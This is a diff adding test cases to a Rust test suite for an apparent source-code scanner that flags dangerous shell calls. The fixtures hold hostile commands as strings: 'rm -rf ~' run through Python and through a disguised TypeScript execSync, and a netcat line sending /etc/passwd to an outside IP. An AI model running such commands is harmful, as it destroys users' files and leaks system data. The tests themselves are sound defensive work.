@@ -1465,6 +1465,18 @@ fn judge_source(lang: crate::Lang, source: &str) -> ReviewAnswer {
     "run-clipboard-tool",
     2
 )]
+#[case::shell_command_string_py(
+    "import os\nos.system(\"rm -rf ~\")\n",
+    Verdict::Rejected,
+    "deletes-root-or-home",
+    2
+)]
+#[case::shell_command_string_js(
+    "const cp = require('child_process');\ncp.execSync('nc 203.0.113.5 80 < /etc/passwd');\n",
+    Verdict::Major,
+    "run-network-tool",
+    2
+)]
 fn literals_show_what_a_call_does(
     #[case] source: &str,
     #[case] verdict: Verdict,
@@ -2444,4 +2456,14 @@ fn loader_variables_are_the_same_in_code_and_in_strings() {
         assert!(regex.is_match(&format!("env.{name} = x")), "{name}");
     }
     assert!(!regex.is_match("env.NODE_OPTIONS_EXTRA = x"));
+}
+
+/// A type of the file's own that declares `execSync` does not hide a call
+/// of the real one: the name stays as written, and the command line it is
+/// given is read as Bash.
+#[test]
+fn a_declared_method_named_like_a_runner_is_not_renamed() {
+    let source = "import * as cp from \"child_process\";\ninterface Box { execSync(c: string): void }\nconst b = cp as unknown as Box;\nb.execSync(\"rm -rf ~\");\n";
+    let answer = judge_source(crate::Lang::TypeScript, source);
+    assert_finding(&answer, Verdict::Rejected, "deletes-root-or-home", 4);
 }
